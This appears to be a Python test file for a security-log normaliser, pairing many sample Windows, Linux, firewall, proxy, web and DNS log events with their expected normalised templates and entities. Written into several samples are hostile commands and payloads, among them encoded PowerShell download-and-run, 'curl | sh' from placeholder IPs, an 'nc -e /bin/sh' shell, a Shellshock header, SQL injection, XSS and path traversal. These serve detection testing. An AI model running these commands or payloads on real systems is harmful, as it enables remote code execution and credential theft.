"""What the normaliser makes of every family, and what no text may do to it."""
from __future__ import annotations

import base64
import doctest
import importlib
import json
import random
from base64 import b64encode

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from aiscore_contract.event import Event, event_of
from aiscore_contract.limits import TEXT_MAX_CHARS
from aiscore_model.decode import MAX_CHARS, decode_command, decode_url
from aiscore_model.formats.draft import ENTITY_NAMES, TEMPLATE_MAX_CHARS
from aiscore_model.normalise import KINDS, Normalised, normalise


def read(text, sourcetype="", **context) -> Normalised:
    if not isinstance(text, str):
        text = json.dumps(text)
    return normalise(event_of(text, sourcetype, **context))


def xml(event_id, provider="Microsoft-Windows-Security-Auditing", **data):
    fields = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in data.items())
    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}' Guid='{{0}}'/>"
            f"<EventID>{event_id}</EventID><Level>0</Level><TimeCreated SystemTime='2031-02-03T04:05:06Z'/><EventRecordID>77</EventRecordID>"
            f"<Channel>Security</Channel><Computer>pc-0815.example.net</Computer><Security/></System><EventData>{fields}</EventData></Event>")


ENCODED = b64encode("iex (new-object net.webclient).downloadstring('http://203.0.113.5/x')".encode("utf-16-le")).decode()

#: (text, sourcetype, kind, words the template has, entities it gives)
EXAMPLES = [
    # Windows
    (xml(4625, TargetUserName="eve", LogonType="3", IpAddress="203.0.113.9", SubStatus="0xC000006A"), "", "windows",
     "logon failed / network / wrong password / publicip", {"src": "203.0.113.9", "target": "eve", "host": "pc-0815.example.net"}),
    (xml(1, "Microsoft-Windows-Sysmon", Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine=f"powershell -w hidden -enc {ENCODED}",
         ParentImage="C:\\Program Files\\Office\\WINWORD.EXE", User="EXAMPLE\\eve", RuleName="technique_id=T1059"), "XmlWinEventLog", "windows",
     "process create / encodedcommand / downloadstring / parent program files office winword exe", {"process": "powershell.exe", "parent": "winword.exe", "user": "example\\eve"}),
    (xml(1, "Linux-Sysmon", Image="/usr/bin/curl", CommandLine="curl -s http://198.51.100.3/i.sh -o /tmp/i.sh", User="root"), "", "windows", "process create / curl / root / tmp", {"process": "curl"}),
    ({"EventID": 4688, "Channel": "Security", "NewProcessName": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all /priv", "SubjectUserName": "SRV01$"}, "", "windows",
     "process create / whoami / machine account", {"process": "whoami.exe", "user": "srv01$"}),
    ({"@timestamp": "2031-01-01T00:00:00Z", "winlog": {"event_id": 7045, "provider_name": "Service Control Manager", "event_data": {"ServiceName": "upd", "ImagePath": "%COMSPEC% /c echo x > \\\\.\\pipe\\y"}}}, "", "windows",
     "service installed / comspec / pipe", {"service": "upd"}),
    ({"Event": {"System": {"EventID": {"#text": 4104}, "Provider": {"@Name": "Microsoft-Windows-PowerShell"}, "Channel": "x"}, "EventData": {"ScriptBlockText": "Invoke-WebRequest http://203.0.113.1/a.exe"}}}, "", "windows",
     "powershell script block / invoke web request / publicip", {}),
    ("03/01/2031 01:02:03 PM\nLogName=Security\nEventCode=4624\nComputerName=dc7\nMessage=An account was successfully logged on.\n\nSubject:\n\tAccount Name:\t\t-\n\nLogon Type:\t\t10\n\nNew Logon:\n\tAccount Name:\t\tbob\n\nNetwork Information:\n\tSource Network Address:\t198.51.100.8\n",
     "WinEventLog:Security", "windows", "logon success / remote interactive / publicip", {"target": "bob", "src": "198.51.100.8"}),
    ("EventCode=4663\nLogName=Security\nSourceName=Microsoft Windows security auditing.\nMessage=An attempt was made to access an object.\n\nObject:\n\tObject Type:\t\tProcess\n"
     "\tObject Name:\t\t\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe\n\nAccess Request Information:\n\tAccess Mask:\t\t0x1410\n", "", "windows", "object access windows security / access read memory / lsass exe", {}),
    ("EventCode=4732\nLogName=Security\nMessage=A member was added to a security-enabled local group.\n\nSubject:\n\tAccount Name:\t\teve\n\nMember:\n\tAccount Name:\t\tCN=x,CN=Users,DC=a\n\n"
     "Group:\n\tSecurity ID:\t\tBUILTIN\\Administrators\n\tGroup Name:\t\tAdministrators\n", "", "windows", "member added to local group / group administrators / administrators group", {"user": "eve", "target": "administrators"}),
    ("EventCode=4104\nLogName=Microsoft-Windows-PowerShell/Operational\nSourceName=Microsoft-Windows-PowerShell\nMessage=Creating Scriptblock text (1 of 1):\niex (iwr http://203.0.113.9/a)\n\nScriptBlock ID: 1\nPath: \n",
     "", "windows", "powershell script block / iex iwr http url publicip", {}),
    ("EventCode=4698\nLogName=Security\nMessage=A scheduled task was created.\n\nTask Information:\n\tTask Name: \t\t\\Upd\n\tTask Content: \t\t<?xml version=\"1.0\"?>\n<Task><Triggers><LogonTrigger/></Triggers>\n"
     "<Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>C:\\Users\\Public\\x.exe</Command><Arguments>-c 1</Arguments></Exec></Actions></Task>\n", "", "windows",
     "scheduled task created / task content users public x exe c num logon trigger hidden", {"path": "upd"}),
    ("Mar 12 10:15:22 pc-7 MSWinEventLog\t1\tSecurity\t8812\tTue Mar 12 10:15:22 2031\t4624\tMicrosoft-Windows-Security-Auditing\tEX\\bob\tN/A\tSuccess Audit\tpc-7\tLogon\t\tAn account was successfully logged on.    "
     "Subject:   Account Name:  -    Logon Information:   Logon Type:  3    New Logon:   Account Name:  bob    Network Information:   Workstation Name: KALI   Source Network Address: 10.1.2.3    "
     "Detailed Authentication Information:   Authentication Package: NTLM   Package Name (NTLM only): NTLM V1\t881", "snare", "windows",
     "logon success / type network / from privateip / station attack tool / package ntlm ntlmv1", {"target": "bob", "src": "10.1.2.3"}),
    ({"EventId": 4648, "Channel": "Security", "Provider": "Microsoft-Windows-Security-Auditing", "Computer": "pc-7", "MapDescription": "x", "Payload":
      json.dumps({"EventData": {"Data": [{"@Name": "SubjectUserName", "#text": "eve"}, {"@Name": "TargetUserName", "#text": "Administrator"}, {"@Name": "TargetServerName", "#text": "fs1.example.lan"}]}})}, "", "windows",
     "logon with explicit credentials / target administrator / server localdomain", {"user": "eve", "target": "administrator"}),
    (xml(400, "PowerShell").replace("<EventData>", "<EventData><Data>Available</Data><Data>None</Data><Data>HostName=ConsoleHost\n\tHostApplication=powershell -w hidden iex x\n\tEngineVersion=2.0\n</Data>"), "", "windows",
     "powershell engine started / host application powershell w hidden iex x old engine", {}),
    (xml(4719, AuditPolicyChanges="%%8448, %%8450", SubjectUserName="eve"), "", "windows", "audit policy changed / success removed failure removed", {"user": "eve"}),
    (xml(4662, ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", ObjectName="%{c6faf700-bfe4-452a-a766-424f84c29583}", AccessMask="0x100", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"), "", "windows",
     "directory object operation / class domain / replication get changes all / control access", {}),
    (xml(7036, "Service Control Manager", param1="Windows Event Log", param2="stopped"), "", "windows", "service state changed / service windows event log state stopped", {"service": "windows event log"}),
    ({"winlog": {"event_id": 3, "provider_name": "Microsoft-Windows-Sysmon"}, "process": {"executable": "C:\\Windows\\System32\\rundll32.exe"}, "destination": {"ip": "203.0.113.9", "port": 443}}, "", "windows",
     "network connection / process windows system32 rundll32 exe / to publicip to https port", {"process": "rundll32.exe", "dest": "203.0.113.9"}),
    # sensors of a host
    ({"process_exec": {"process": {"binary": "/usr/bin/curl", "arguments": "-s http://203.0.113.4/x", "uid": 33, "cwd": "/tmp", "pod": {"name": "web"}}, "parent": {"binary": "/bin/sh"}}, "node_name": "n1"}, "", "auditd",
     "process execute process usr bin curl command curl s http url publicip x parent bin sh directory tmp as service account in container", {"process": "curl", "parent": "sh", "host": "n1"}),
    ({"rule": "Terminal shell in container", "priority": "Notice", "output": "x", "output_fields": {"proc.cmdline": "bash -i", "proc.name": "bash", "proc.pname": "runc", "user.name": "root", "container.id": "abc"}}, "", "auditd",
     "rule terminal shell in container priority notice process bash command bash i parent runc as root in container", {"process": "bash"}),
    ({"ID": "1.2:3", "NODE": "web1", "SYSCALL": {"syscall": 59, "success": "yes", "exe": "/usr/bin/id", "uid": 0}, "EXECVE": {"argc": 1, "ARGV": ["id", "-u"]}, "CWD": {"cwd": "/tmp"}}, "", "auditd",
     "process execute success process usr bin id command id u directory tmp as root", {"process": "id", "host": "web1"}),
    ({"eventName": "openat", "processName": "cat", "args": "[{'name': 'pathname', 'type': 'const char*', 'value': '/etc/shadow'}]", "returnValue": 3, "userId": 1000, "hostName": "h"}, "", "auditd",
     "open process cat file etc shadow as user", {"process": "cat"}),
    ({"event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog"]}}, "process": {"executable": {"path": "/bin/zsh"}}}, "", "auditd",
     "process execute process usr bin osascript command osascript e display dialog parent bin zsh", {"process": "osascript", "parent": "zsh"}),
    ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell command curl http url publicip x pipe sh as root", {"host": "w1"}),
    ("2031-03-12 10:15:22.123456+0100 0x1a2b     Default     0x0                  812    0    sudo: (libpam.2.dylib) bob : TTY=ttys000 ; PWD=/Users/bob ; USER=root ; COMMAND=/usr/bin/csrutil disable", "", "syslog",
     "privileged command sudo command usr bin csrutil disable by user as root", {"user": "bob"}),
    ("Mar 12 10:15:22 web1 bash[812]: HISTORY: PID=812 UID=0 curl http://203.0.113.4/x | sh", "", "syslog", "shell command curl http url publicip x pipe sh as root", {"host": "web1"}),
    ("Mar 12 10:15:22 web1 pkexec[81]: bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=/usr/bin/id]", "", "syslog", "privileged command pkexec executing command usr bin id by user as root directory tmp", {"user": "bob", "target": "root"}),
    ("Mar 12 10:15:22 web1 useradd[99]: new user: name=bkup, UID=0, GID=0, home=/root, shell=/bin/bash", "", "syslog", "user management useradd new user / uid zero gid zero with shell", {"target": "bkup"}),
    ("Mar 12 10:15:22 web1 audispd: node=web1 type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=59 success=yes exit=0 uid=0 euid=0 comm=\"nc\" exe=\"/usr/bin/nc\"", "", "auditd", "system call / execute / usr bin nc / root", {"process": "nc"}),
    # auditd
    ('type=AVC msg=audit(1900000000.1:9): avc:  denied  { execute } for  pid=812 comm="httpd" path="/tmp/x" scontext=system_u:system_r:httpd_t:s0 tcontext=unconfined_u:object_r:user_tmp_t:s0 tclass=file permissive=0', "", "auditd",
     "access denied by policy / denied execute / file tmp x / from httpd to user tmp class file", {}),
    ("type=USER_MGMT msg=audit(1900000000.1:9): pid=7 uid=0 auid=1000 ses=1 msg='op=adding user to group grp=\"sudo\" acct=\"bob\" exe=\"/usr/sbin/usermod\" res=success'", "", "auditd",
     "user management / operation adding user to group / group sudo", {"target": "bob"}),
    ('type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=59 success=yes exit=0 auid=1000 uid=33 euid=0 comm="sh" exe="/usr/bin/dash"', "", "auditd", "as root raised", {"process": "dash"}),
    ('type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="curl" a1="-o" a2="/tmp/.x"', "", "auditd", "process execute / command curl / tmp", {"process": "curl"}),
    ("type=PROCTITLE msg=audit(1900000000.123:42): proctitle=" + b"nc\x00-e\x00/bin/sh".hex().upper(), "", "auditd", "process title / nc e bin sh", {"process": "nc"}),
    ('type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=175 success=no exit=-1 a0=1 ppid=2 pid=3 auid=1000 uid=0 euid=0 tty=pts0 ses=1 comm="insmod" exe="/usr/bin/kmod" key="modules"',
     "", "auditd", "system call / init module / failed / not permitted / root", {"process": "kmod", "user": "1000"}),
    ("node=web3 type=USER_LOGIN msg=audit(1900000000.1:9): pid=7 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"admin\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.7 terminal=ssh res=failed'",
     "", "auditd", "login / failed / administrator / publicip", {"src": "203.0.113.7", "host": "web3"}),
    # firewalls
    ("<166>May 17 2031 14:06:00 fw1 : %ASA-6-302014: Teardown TCP connection 85008880 for outside:198.51.100.65/4571 to dmz:192.168.50.20/443 duration 0:01:05 bytes 2887 TCP FINs",
     "cisco:asa", "syslog", "firewall / teardown / from outside publicip / to dmz privateip / https port / duration long / bytes medium", {"src": "198.51.100.65", "dest": "192.168.50.20", "port": "443"}),
    ("%ASA-6-302013: Built outbound TCP connection 7 for outside:203.0.113.9/4444 (203.0.113.9/4444) to inside:10.0.0.8/51000 (198.51.100.1/51000)",
     "cisco:asa", "syslog", "firewall / built outbound / from inside privateip / to outside publicip / port", {"src": "10.0.0.8", "dest": "203.0.113.9", "port": "4444"}),
    ("Mar 01 2031 10:00:00: %ASA-4-106023: Deny tcp src outside:203.0.113.5/40000 dst inside:10.0.0.9/3389 by access-group \"out\" [0x0, 0x0]",
     "", "syslog", "firewall / deny tcp / from outside publicip / to inside privateip / rdp port", {"src": "203.0.113.5", "dest": "10.0.0.9", "port": "3389"}),
    ('<189>date=2031-05-17 time=01:13:37 devname="FGT-9" type="traffic" action="deny" srcip=10.1.2.3 dstip=203.0.113.9 dstport=445 proto=6', "", "keyvalue",
     "traffic / deny / smb port", {"src": "10.1.2.3", "dest": "203.0.113.9"}),
    ("Apr 20 10:53:20 fw1 1,2031/04/20 10:53:20,017220325920,THREAT,virus,2305,2031/04/20 10:53:20,192.168.79.133,203.0.113.37,0.0.0.0,0.0.0.0,Out,CORP\\kim,,dns,vsys1,trust,untrust,ethernet1/2,"
     "ethernet1/1,Fwd,2031/04/20 10:53:20,388745,1,2913,4444,0,0,0x0,tcp,reset-both,\"a,b.exe\",Sliver C2 Traffic(86800),any,critical,client-to-server,9,0x0", "pan:threat", "keyvalue",
     "firewall threat virus / reset both / tcp / severity critical / to publicip / sliver / zone trust", {"src": "192.168.79.133", "dest": "203.0.113.37", "port": "4444", "user": "corp\\kim", "host": "fw1"}),
    ("1,2031/09/22 14:06:08,016129831288,TRAFFIC,end,2560,2031/09/22 14:06:08,192.168.223.206,192.168.139.67,0.0.0.0,0.0.0.0,r,,,ssh,vsys1,trust,dmz,e1,e2,Fwd,2031/09/22 14:06:08,677515,1,56687,22,0,0,0x0,tcp,allow,"
     "7081313,7034953,46360,14521,2031/09/22 14:06:08,475,any", "pan:traffic", "keyvalue", "firewall traffic end / allow / ssh / ssh port / sent large / received medium / duration long", {"port": "22"}),
    ("Apr  2 16:04:34 gw filterlog[20619]: 54,,,1542569328,igb1,match,block,in,4,0x0,,94,43558,0,DF,6,tcp,100,203.0.113.6,192.168.245.182,64476,3389,60,S,742477330,,1024,,mss", "pfsense", "keyvalue",
     "firewall / block failed / tcp / from publicip to privateip / rdp port / flags syn", {"src": "203.0.113.6", "dest": "192.168.245.182", "port": "3389", "host": "gw"}),
    ("time=1751727029|action=Drop|ifdir=inbound|origin=172.29.54.204|src=203.0.113.73|s_port=42547|dst=10.0.0.46|service=445|proto=6|product=VPN-1 & FireWall-1", "cp_log", "keyvalue",
     "drop / tcp / from publicip to privateip / smb port", {"src": "203.0.113.73", "port": "445"}),
    ('<14>1 2031-10-16T14:45:00.150Z srx RT_FLOW - RT_FLOW_SESSION_DENY [junos@2636.1.1.1.2.40 source-address="10.1.2.3" source-port="38563" destination-address="203.0.113.29" destination-port="53" protocol-id="17"]', "",
     "syslog", "session deny / udp / from privateip to publicip dns port", {"dest": "203.0.113.29", "port": "53"}),
    ('1,2031/11/26 05:10:10,012801064439,GLOBALPROTECT,0,2561,2031/11/26 05:10:10,vsys1,gateway-auth,login,LDAP,,corp\\kim,US,PC1,198.51.100.7,0.0.0.0,10.9.8.7,0.0.0.0,aa,SN,6.1.2,Windows,"Windows 11, 64-bit",1,,,'
     'Authentication failed: Invalid username or password,failure,,0', "pan:globalprotect", "keyvalue", "firewall globalprotect gateway auth / failure failed / invalid username or password / from publicip",
     {"user": "corp\\kim", "src": "198.51.100.7"}),
    ("Nov 26 05:10:11 ftd1 %FTD-1-430003: EventPriority: Low, DeviceUUID: aa, AccessControlRuleAction: Allow, SrcIP: 10.1.2.3, DstIP: 203.0.113.4, SrcPort: 51514, DstPort: 443, Protocol: tcp, User: kim, "
     "InitiatorBytes: 361, ResponderBytes: 164000, URLCategory: Malware Sites, URL: https://qxkzvjwpfh.top/a", "cisco:ftd", "syslog",
     "firewall connection end / allow success / http request to domain top / malware sites / outbound from privateip to publicip https port / sent small received large", {"user": "kim", "dest": "203.0.113.4"}),
    ("Nov 26 05:10:11 sw1 1234: *Nov 26 05:10:10.123: %SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.4(44122) -> 10.1.2.3(22), 1 packet", "cisco:ios", "syslog",
     "device sec ipaccesslogp list num denied tcp / inbound from publicip to privateip ssh port", {"src": "203.0.113.4", "dest": "10.1.2.3", "port": "22", "host": "sw1"}),
    ("Nov 26 05:10:11 sw1 77: Nov 26 05:10:10: %SYS-5-CONFIG_I: Configured from console by kim on vty0 (10.1.5.5)", "cisco:ios", "syslog", "device sys config i configured from console by user / from privateip", {"user": "kim"}),
    ('<134>1 2031-11-26T05:10:11Z gw1 CheckPoint 1234 - [action:"Drop"; ifdir:"inbound"; origin:"10.1.1.1"; dst:"10.1.2.3"; product:"VPN-1 & FireWall-1"; proto:"6"; s_port:"44122"; service:"22"; src:"203.0.113.4"]', "cp_log",
     "keyvalue", "action drop failed tcp / inbound from publicip to privateip ssh port", {"src": "203.0.113.4", "port": "22"}),
    ('id=firewall sn=18B1 time="2031-11-26 05:10:11 UTC" fw=198.51.100.5 pri=6 msg="Connection Closed" src=10.1.2.3:51514:X0 dst=203.0.113.4:443:X1 proto=tcp/https sent=1232 rcvd=7611', "sonicwall", "keyvalue",
     "connection closed / outbound from privateip to publicip https port", {"src": "10.1.2.3", "dest": "203.0.113.4", "port": "443"}),
    ("<134>1 2031-11-26T05:10:11.1+01:00 pf.example.org filterlog 1234 - - 5,,,1000000103,igb0,match,block,in,4,0x0,,240,54321,0,none,17,udp,44,203.0.113.4,10.1.2.3,44122,161,24", "pfsense", "keyvalue",
     "firewall action block failed udp / snmp port", {"port": "161"}),
    ("CEF:0|Vendor|Gateway|1|7|Exploit|8|src=203.0.113.9 dst=10.0.0.8 dpt=443 cs1Label=Threat Name cs1=Log4j Remote Code Execution cn1Label=Count cn1=4", "", "keyvalue", "exploit severity critical / threat name log4j remote code execution", {}),
    ("<134>1 1700000000.12 MX84 security_event ids_alerted signature=1:28423:1 priority=1 direction=egress protocol=tcp/ip src=10.1.2.3:53023 dst=203.0.113.4:80 decision=blocked message: EXPLOIT-KIT executable detection", "meraki",
     "keyvalue", "severity high exploit kit executable detection / outbound from privateip to publicip http port", {"src": "10.1.2.3", "port": "80"}),
    # proxies and web servers
    ('2031-11-26 05:10:11 245 10.1.2.3 kim CORP\\users - DENIED "Suspicious;Uncategorized" - 403 TCP_DENIED GET application/octet-stream http cdn.example.net 80 /a.exe ?x=1 exe "curl/8.1" 10.1.1.1 3924 321 -', "bluecoat", "web",
     "http get proxy denied suspicious uncategorized tcp denied / a exe query x num / forbidden / agent tool curl", {"src": "10.1.2.3", "user": "kim", "domain": "example.net"}),
    ('"2031-11-26 05:10:11","kim","kim,PC1","10.1.2.3","198.51.100.7","Blocked","16 (TXT)","NOERROR","qzxkvjwpqhtrmd.top.","Command and Control,Malware"', "cisco:umbrella:dns", "dns",
     "dns query domain top / text record / blocked command and control malware", {"user": "kim", "src": "10.1.2.3"}),
    ('"2031-11-26 05:10:11","PC1","10.1.2.3","198.51.100.7","203.0.113.4","text/html","BLOCKED","http://cdn.example.net/x.exe","","curl/8.1","403","321","3924","3000","dd","Malware","AV found"', "opendns:proxy", "web",
     "http request proxy failed to domain net / x exe / forbidden / malware", {"src": "10.1.2.3"}),
    ({"datetime": "2031-11-26 05:10:11", "action": "Blocked", "urlcategory": "Phishing", "requestmethod": "GET", "useragent": "curl/8.1", "ClientIP": "10.1.2.3", "status": "403", "url": "cdn.example.net/login", "hostname": "cdn.example.net"},
     "zscalernss-web", "web", "http get to domain net / login action failed / phishing", {"src": "10.1.2.3"}),
    ("2031-11-26 05:10:11 W3SVC1 WEB01 10.1.2.3 POST /owa/auth/x.aspx - 443 - 203.0.113.4 HTTP/1.1 python-requests/2.25.1 - https://example.org/a mail.example.com 200 0 0 3212 543 120", "iis", "web",
     "http post path owa auth x aspx / success / agent tool python requests / referred", {"src": "203.0.113.4"}),
    ('2031/11/26 05:10:11 [error] 12#12: *56 open() "/var/www/.env" failed (2: No such file or directory), client: 203.0.113.4, server: example.com, request: "GET /.env HTTP/1.1", host: "example.com"', "nginx:error", "web",
     "server log error / no such file or directory / http get path hidden env", {"src": "203.0.113.4", "domain": "example.com"}),
    ('[Wed Nov 26 05:10:11.123456 2031] [:error] [pid 12:tid 5678] [client 203.0.113.4:44122] ModSecurity: Access denied with code 403 (phase 2). Pattern match [msg "SQL Injection Attack"] [severity "2"] [tag "attack-sqli"] [uri "/login.php"]',
     "apache:error", "web", "server log error web guard access denied / sql injection attack / attack sqli / path login php", {"src": "203.0.113.4"}),
    ("[Wed Nov 26 05:10:11 2031] [php:error] [pid 12] [client 203.0.113.4:44122] PHP Fatal error:  Uncaught Error in /var/www/index.php:12", "", "web", "server log php error php fatal error", {"src": "203.0.113.4"}),
    ({"Action": "block", "ClientIP": "203.0.113.4", "ClientRequestHost": "example.com", "ClientRequestMethod": "GET", "ClientRequestPath": "/wp-login.php", "ClientRequestUserAgent": "curl/8", "Description": "Broken Authentication",
      "EdgeResponseStatus": 403}, "cloudflare", "web", "http get path wp login php / action failed / broken authentication", {"src": "203.0.113.4"}),
    ({"@timestamp": "2031", "http": {"request": {"method": "get"}, "response": {"status_code": 404}}, "url": {"path": "/.git/config", "domain": "example.com"}, "client": {"ip": "203.0.113.4"}, "user_agent": {"original": "curl/8"}}, "", "web",
     "http get path hidden git config / not found / agent tool curl", {"src": "203.0.113.4"}),
    # proxies
    ('[28/Mar/2031:13:01:17 +0000] "kim" 192.168.207.32 403 "POST https://qxkzvjwpfh.top/a.zip HTTP/1.1" "Business" "High Risk" "application/json" 23626 768563 "curl/8.1" "" "0" ""', "mcafee:wg:kv", "web",
     "http post / proxy business high risk / domain top / forbidden / agent tool curl", {"user": "kim", "src": "192.168.207.32"}),
    ('1602014422.862      8 10.60.0.77 TCP_TUNNEL/200 3793 CONNECT login-microsoftonline.com-auth.support:8443 kim HIER_DIRECT/203.0.113.7 - "-" "masscan/1.0"', "squid:access", "web",
     "http connect proxy / to domain support / borrowed brand / https alternative port / attack tool masscan", {"domain": "com-auth.support", "port": "8443", "user": "kim"}),
    # Kubernetes and Entra
    ({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "1", "requestURI": "/healthz", "verb": "get", "user": {"username": "system:anonymous"}, "sourceIPs": ["10.0.0.1"], "userAgent": "curl/8",
      "responseStatus": {"code": 403}}, "kube:audit", "cloud", "healthz / kubernetes / failed / anonymous", {"src": "10.0.0.1"}),
    ({"kind": "Event", "auditID": "1", "requestURI": "/api/v1/namespaces/prod/pods/web-1/exec?command=sh&command=-c&command=curl+http%3A%2F%2F203.0.113.4%2Fx", "verb": "create", "userAgent": "kubectl/v1.30",
      "user": {"username": "system:serviceaccount:prod:default"}, "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "prod", "name": "web-1"}, "responseStatus": {"code": 101}},
     "kube:audit", "cloud", "create pods exec / kubectl / account of namespace default account / command sh c curl", {"user": "system:serviceaccount:prod:default"}),
    ({"id": "1", "userPrincipalName": "kim@example.com", "appDisplayName": "Azure CLI", "clientAppUsed": "Other clients; IMAP", "ipAddress": "203.0.113.6", "conditionalAccessStatus": "failure", "isInteractive": True,
      "status": {"errorCode": 50126, "failureReason": "x"}, "deviceDetail": {"deviceId": ""}, "riskLevelAggregated": "high", "location": {"countryOrRegion": "NO"}}, "azure:aad:signin", "cloud",
     "sign in / failed / wrong password / legacy client / azure cli / device not known / risk high", {"region": "no", "service": "azure cli", "user": "kim@example.com"}),
    # web
    ('198.51.100.2 - - [01/Mar/2031:10:11:12 +0000] "GET /shop/item?id=1%2527%20UNION%20SELECT%201,2-- HTTP/1.1" 500 312 "-" "sqlmap/1.9"', "access_combined", "web",
     "http get / doubleencoded / quote union select num / server error / attack tool sqlmap", {"src": "198.51.100.2", "path": "shop item"}),
    ('web1:443 198.51.100.2 - bob [01/Mar/2031:10:11:12 +0000] "POST /login HTTP/2.0" 302 0 "https://example.org/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"', "", "web",
     "http post path login / redirect / agent browser firefox linux / referred", {"user": "bob"}),
    ("2031-03-01 10:11:12 10.0.0.5 GET /owa/auth.aspx x=../../etc/passwd 443 - 203.0.113.44 Mozilla/5.0+(Windows+NT+10.0)+Chrome/140.0 - 404 0 2 15", "iis", "web",
     "http get / owa auth aspx / traversal / not found / chrome", {"src": "203.0.113.44"}),
    ("POST /api/v1/users HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\nContent-Length: 30\r\n\r\nname=<script>alert(1)</script>", "", "web",
     "http post / less script greater alert / agent odd", {"domain": "example.com"}),
    ("1900000000.123    250 10.1.2.3 TCP_MISS/200 5120 GET http://example.com/setup.exe bob DIRECT/203.0.113.1 application/octet-stream", "squid", "web",
     "http get / proxy tcp miss / setup exe / success", {"src": "10.1.2.3", "user": "bob", "domain": "example.com"}),
    ('Mar  1 10:11:12 lb1 haproxy[123]: 203.0.113.9:4711 [01/Mar/2031:10:11:12.123] fe~ be/web1 0/0/1/12/13 403 210 - - ---- 1/1/0/0/0 0/0 "GET /.git/config HTTP/1.1"', "", "web",
     "http get / hidden git config / forbidden", {"src": "203.0.113.9", "host": "lb1"}),
    ({"transaction": {"client_ip": "203.0.113.2", "request": {"method": "GET", "uri": "/?q=%3Csvg/onload=alert(1)%3E", "headers": {"User-Agent": "curl/8.0", "Host": "example.org"}}, "response": {"http_code": 403},
                      "messages": [{"message": "XSS Attack Detected"}]}}, "", "web", "http get / less svg onload / forbidden / agent tool curl / xss attack detected", {"src": "203.0.113.2"}),
    ("/index.php?page=php://filter/convert.base64-encode/resource=config", "", "web", "http request / index php / filter", {}),
    # dns
    ("01-Mar-2031 10:11:12.123 queries: info: client @0x7f0000000000 10.9.8.7#5353 (qzxkvjwpqhtrmd.top): query: qzxkvjwpqhtrmd.top IN TXT +E(0) (10.0.0.2)", "", "dns",
     "dns query / domain top / random / text record", {"domain": "qzxkvjwpqhtrmd.top", "src": "10.9.8.7"}),
    ("Mar  1 10:11:12 gw dnsmasq[77]: query[A] updates.example.com from 192.168.1.5", "", "dns", "dns query / domain com wordlike / address record", {"src": "192.168.1.5"}),
    ({"ts": 1900000000.1, "uid": "C1", "id.orig_h": "10.0.0.9", "id.orig_p": 5000, "id.resp_h": "10.0.0.2", "id.resp_p": 53, "proto": "udp", "query": "mail.example.org", "qtype_name": "MX", "rcode_name": "NXDOMAIN"},
     "bro:dns:json", "dns", "dns query / mail record / nxdomain", {"domain": "example.org"}),
    ("kjhqwezxcvbnmpo.biz", "", "dns", "dns query / random", {"domain": "kjhqwezxcvbnmpo.biz"}),
    ("9/3/2031 5:07:27 PM 70F2 PACKET  59EC0AC96CB2E615 UDP Rcv 10.9.8.7   3ea0   Q [0001   D   NOERROR] TXT    (14)qzxkvjwpqhtrmd(3)top(0)", "MSAD:NT6:DNS", "dns", "dns query domain top / text record", {"domain": "qzxkvjwpqhtrmd.top", "src": "10.9.8.7"}),
    ("Sep 14 12:54:33 gw unbound: [5613:0] info: 10.9.8.7 mail.example.org. MX IN", "", "dns", "dns query / mail record", {"src": "10.9.8.7", "domain": "example.org"}),
    ('[INFO] 10.9.8.7:51514 - 12345 "A IN mail.example.org. udp 45 false 512" NXDOMAIN qr,rd,ra 120 0.001s', "coredns", "dns", "dns query / address record nxdomain", {"src": "10.9.8.7"}),
    ("Nov 26 05:10:11 gw dnsmasq[123]: gravity blocked ads.example.net is 0.0.0.0", "", "dns", "dns query / gravity blocked", {}),
    # flows and sensors
    ("1700000000.1\tC1\t10.1.2.3\t51514\t203.0.113.4\t4444\ttcp\t-\t3600.1\t30211\t992\tSF\tT\tF\t0\tShADadFf\t120\t36000\t99\t5000\t-", "bro:conn", "flow",
     "connection tcp no service backdoor port normal finish / sent medium received small / duration lasting outbound from privateip to publicip", {"dest": "203.0.113.4", "port": "4444"}),
    ("1700000000.1\tC1\t10.1.2.3\t51514\t10.0.0.2\t53\tudp\t77\t0.01\tqzxkvjwpqhtrmd.top\t1\tC_INTERNET\t16\tTXT\t3\tNXDOMAIN\tF\tF\tT\tT\t0\t-\t-\tF", "", "dns", "dns query domain top / text record nxdomain", {"src": "10.1.2.3"}),
    ("1700000000.1\tC1\t10.1.2.3\t51514\t203.0.113.4\t80\t1\tGET\tcdn.example.net\t/a.exe\t-\t1.1\tcurl/8.1\t-\t0\t900\t200\tOK", "bro:http", "web", "http get path a exe status success ok / agent tool curl", {"src": "10.1.2.3"}),
    ({"ts": 1.1, "id.orig_h": "10.1.2.3", "id.orig_p": 5, "id.resp_h": "10.1.2.9", "id.resp_p": 88, "request_type": "TGS", "client": "kim/CORP", "service": "MSSQLSvc/sql1", "success": True, "cipher": "rc4-hmac"}, "zeek_kerberos", "flow",
     "network kerberos request type tgs / cipher rc4 hmac", {"src": "10.1.2.3"}),
